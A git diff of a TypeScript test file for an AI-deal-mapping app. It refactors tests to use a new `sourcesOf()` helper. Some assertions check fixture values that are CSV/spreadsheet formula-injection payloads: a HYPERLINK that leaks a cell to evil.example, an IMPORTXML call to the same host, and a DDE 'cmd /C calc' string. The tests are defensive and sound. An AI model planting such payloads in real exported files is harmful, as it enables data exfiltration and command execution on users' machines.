@@ -30,6 +30,7 @@ import { layoutRadii } from '../../src/lib/state/layout-sizes.ts';
 import { searchCompanies } from '../../src/lib/search/search.ts';
 import { mapSummary } from '../../src/lib/state/summary.ts';
 import { DEFAULT_VIEW } from '../../src/lib/state/view-params.ts';
+import { sourcesOf } from '../../src/lib/data/sources.ts';
 
 const DIR = new URL('../fixtures/bad/', import.meta.url);
 const DEPTH = 100_000;
@@ -229,8 +230,8 @@ const ROWS: readonly Row[] = [
     ],
     keeps: ['openai', 'nvidia', 'openai-aws-2025-compute', 'amazon-anthropic-2023-investment'],
     check: (map) => {
-      expect(map.deals[0]?.sources).toEqual([{ url: 'https://example.com/ok' }]);
-      expect(map.deals[1]?.sources).toEqual([]);
+      expect(map.deals[0] && sourcesOf(map.deals[0])).toEqual([{ url: 'https://example.com/ok' }]);
+      expect(map.deals[1] && sourcesOf(map.deals[1])).toEqual([]);
       expect(map.events).toEqual([{ date: '2025-01', label: 'Event' }]);
     },
   },
@@ -246,7 +247,7 @@ const ROWS: readonly Row[] = [
     ],
     keeps: ['openai-aws-2025-compute', 'amazon-anthropic-2023-investment'],
     check: (map) =>
-      expect(map.deals[0]?.sources.map((s) => s.url)).toEqual([
+      expect(map.deals[0] && sourcesOf(map.deals[0]).map((s) => s.url)).toEqual([
         'https://nohost/', // "https:///nohost": the WHATWG parser skips the extra slash
         'https://example.com/genuine',
         'https://example.com/Upper',
@@ -368,9 +369,9 @@ const ROWS: readonly Row[] = [
       const [first, second] = map.deals;
       expect(first?.summary).toBe('=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")');
       expect(first?.notes).toBe("+cmd|' /C calc'!A0");
-      expect(first?.sources[0]?.publisher).toBe('@SUM(1+1)*cmd');
+      expect(first && sourcesOf(first)[0]?.publisher).toBe('@SUM(1+1)*cmd');
       expect(second?.summary).toBe('=1+1'); // the exporter's guard apostrophe is undone
-      expect(second?.sources[0]?.publisher).toBe('=IMPORTXML("https://evil.example","//a")');
+      expect(second && sourcesOf(second)[0]?.publisher).toBe('=IMPORTXML("https://evil.example","//a")');
     },
   },
   {
@@ -485,7 +486,9 @@ function linksOf(map: DealMap): string[] {
   return [
     ...(map.meta.correctionsUrl === undefined ? [] : [map.meta.correctionsUrl]),
     ...map.companies.flatMap((c) => (c.url === undefined ? [] : [c.url])),
-    ...map.deals.flatMap((d) => d.sources.flatMap((s) => [s.url, ...(s.archiveUrl ? [s.archiveUrl] : [])])),
+    ...map.deals.flatMap((d) =>
+      sourcesOf(d).flatMap((s) => [s.url, ...(s.archiveUrl ? [s.archiveUrl] : [])]),
+    ),
     ...map.events.flatMap((e) => (e.url === undefined ? [] : [e.url])),
   ];
 }
